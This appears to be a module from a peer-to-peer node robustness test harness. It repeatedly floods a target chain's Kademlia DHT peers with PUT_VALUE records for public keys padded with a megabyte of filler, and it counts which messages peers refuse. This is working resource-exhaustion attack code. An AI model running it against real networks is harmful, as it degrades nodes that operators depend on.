/** PUT_VALUE of public keys with a megabyte of padding, which a store of values would keep. */

import { generateKeyPair, publicKeyToProtobuf } from "@libp2p/crypto/keys";
import { type Attack, keepOpening, persist } from "../attack.ts";
import { nameOf, pour } from "../peer.ts";
import { field, KAD, kademlia } from "../wire.ts";

const PADDING = Buffer.alloc(1024 * 1024, 0x61);

export const attack: Attack = {
  claim: "PUT_VALUE of /pk/ with 1 MiB of padding",
  isPunished: true,
  run: (context) =>
    persist(
      context,
      async (peer) => {
        await keepOpening(context, peer, nameOf(context.target.chain, "kad"), async (stream) => {
          const { publicKey } = await generateKeyPair("Ed25519");
          const key = Buffer.concat([Buffer.from("/pk/"), publicKey.toMultihash().bytes]);
          const value = Buffer.concat([publicKeyToProtobuf(publicKey), field(15, PADDING)]);
          const record = field(
            3,
            Buffer.concat([field(1, key), field(2, value), field(5, new Date().toISOString())]),
          );
          context.count("messages");
          if (!(await pour(stream, kademlia(KAD.putValue, key, record)))) context.count("refusedMessages");
          else await stream.close();
        });
      },
      false,
    ),
};
